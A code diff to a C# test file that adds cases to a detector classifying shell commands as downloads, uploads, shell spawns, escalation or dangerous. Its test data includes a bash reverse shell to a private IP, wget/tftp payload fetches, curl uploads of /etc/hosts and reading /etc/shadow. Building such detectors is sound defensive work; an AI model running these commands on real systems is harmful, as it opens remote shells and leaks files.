@@ -44,6 +44,8 @@ public sealed class CommandFeatureTests
     [TestCase("# wget http://x")]
     [TestCase("kill 123")]
     [TestCase("git commit -m 'chmod 4755 fixed'")]
+    [TestCase("iptables -A INPUT -p tcp --dport 22 -j ACCEPT")]
+    [TestCase("iptables -L -n -x")]
     public void Harmless_lines_are_harmless(string line) => Traits(line).ShouldBe(CommandTraits.None);
 
     [TestCase("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", (int)CommandTraits.ShellSpawn | (int)CommandTraits.Dangerous | (int)CommandTraits.Interpreter)]
@@ -54,6 +56,12 @@ public sealed class CommandFeatureTests
     [TestCase("/bin/busybox wget http://1.2.3.4/a", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
     [TestCase("tftp -g -r a 1.2.3.4", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
     [TestCase("curl -T /etc/hosts http://x", (int)CommandTraits.Upload | (int)CommandTraits.Dangerous)]
+    [TestCase("curl -sf -f http://x/a", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
+    [TestCase("curl -F file=@/etc/hosts http://x", (int)CommandTraits.Upload | (int)CommandTraits.Dangerous)]
+    [TestCase("bash -C 'wget http://x'", (int)CommandTraits.Interpreter)]
+    [TestCase("scp -F my.conf user@host:/a .", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
+    [TestCase("iptables -P INPUT ACCEPT", (int)CommandTraits.Dangerous)]
+    [TestCase("powershell -E AAAA", (int)CommandTraits.Interpreter | (int)CommandTraits.Dangerous)]
     [TestCase("scp user@host:/a .", (int)CommandTraits.Download | (int)CommandTraits.Dangerous)]
     [TestCase("sudo -u bob cat /etc/shadow", (int)CommandTraits.Escalation | (int)CommandTraits.Dangerous)]
     [TestCase("su - root", (int)CommandTraits.Escalation)]
